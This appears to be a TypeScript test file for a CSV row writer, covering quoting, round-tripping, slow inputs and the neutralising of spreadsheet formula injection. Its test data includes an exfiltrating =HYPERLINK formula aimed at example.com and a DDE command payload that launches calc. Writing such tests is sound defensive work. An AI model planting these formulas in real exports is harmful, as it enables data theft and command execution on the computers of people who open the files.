import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../../handlers/http/csv.ts';
import { cpuMilliseconds } from '../../cpu-milliseconds.ts';

/** Parses a row according to RFC 4180. */
function parseRow(text: string, separator = ','): string[] {
  const cells: string[] = [];
  let at = 0;
  for (;;) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        cell += text[at];
        if (text[at] === '"') at += 1;
      }
      at += 1;
    } else {
      while (at < text.length && text[at] !== separator && text[at] !== '\r') cell += text[at++];
    }
    cells.push(cell);
    if (text[at] !== separator) break;
    at += 1;
  }
  expect(text.slice(at)).toBe('\r\n');
  return cells;
}

describe('a row of CSV', () => {
  it.each([
    ['GET /', 'GET /'],
    ['GET /a,b', '"GET /a,b"'],
    ['GET /"a"', '"GET /""a"""'],
    ['GET /\n', '"GET /\n"'],
    [' x', '" x"'],
    ['', ''],
  ])('quotes %j where it has to: %s', (cell, written) => {
    expect(csvRow([cell, 7, true])).toBe(`${written},7,true\r\n`);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '=HYPERLINK("http://example.com/?"&A1,"x")',
  ])('gives a spreadsheet no formula in %j', (cell) => {
    const [parsed = ''] = parseRow(csvRow([cell]));
    expect(parsed.startsWith("'")).toBe(true);
  });

  it('nor one to a spreadsheet that parts cells at semicolons, tabs or any line break', () => {
    for (const separator of [';', '\t', '\r', '\n']) {
      const row = csvRow(['2025', `GET /x${separator}=cmd|' /C calc'!A0`, 1]);
      expect(row.split(separator).some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
    }
  });

  it('gives back every text, except for the marks before what looks like a formula', () => {
    const text = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n ;,"\'a/é'.split('')) });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (cells) => {
        const parsed = parseRow(csvRow(cells));
        expect(parsed.map((cell) => cell.replaceAll("'", ''))).toEqual(
          cells.map((cell) => cell.replaceAll("'", '')),
        );
        for (const cell of parsed) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });

  it('takes no longer for text that was made to be slow', () => {
    const slow = [';\t'.repeat(100_000), '"'.repeat(100_000), ' '.repeat(200_000)];
    expect(cpuMilliseconds(() => void csvRow(slow))).toBeLessThan(2_000);
  });
});
